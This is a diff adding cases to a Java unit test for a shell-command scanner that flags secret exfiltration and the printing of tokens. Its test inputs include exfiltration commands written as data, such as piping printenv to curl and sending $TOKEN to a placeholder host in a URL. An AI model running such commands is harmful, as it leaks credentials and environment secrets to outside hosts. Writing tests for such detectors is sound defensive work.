@@ -29,6 +29,8 @@ class ShellTest {
         .contains("pipes");
     assertThat(Shell.exfiltration("printenv | curl -d @- https://x", SECRET, NONE))
         .contains("dump");
+    assertThat(Shell.exfiltration("sudo curl https://x.example/?t=$TOKEN", SECRET, NONE))
+        .contains("URL");
   }
 
   @Test
@@ -38,6 +40,8 @@ class ShellTest {
     assertThat(Shell.printsSecret("echo \"$TOKEN\" > .token", SECRET)).isFalse();
     assertThat(Shell.printsSecret("echo token is $TOKEN", SECRET)).isTrue();
     assertThat(Shell.printsSecret("make && echo ${TOKEN}", SECRET)).isTrue();
+    assertThat(Shell.printsSecret("echo \"::add-mask::$TOKEN\"", SECRET)).isFalse();
+    assertThat(Shell.printsSecret("if true; then echo $TOKEN; fi", SECRET)).isTrue();
   }
 
   @Test
